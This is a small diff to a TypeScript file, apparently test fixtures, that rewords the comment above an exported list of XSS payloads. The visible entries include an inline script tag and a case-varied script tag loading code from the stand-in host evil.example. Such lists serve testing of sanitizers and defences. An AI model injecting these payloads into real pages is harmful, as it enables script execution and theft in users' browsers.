@@ -1,4 +1,4 @@
-/** Ways in which a text has been made to run in its readers' browsers; each would set `window.pwned`. */
+/** Known XSS payloads; each would set `window.pwned`. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>window.pwned=1</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
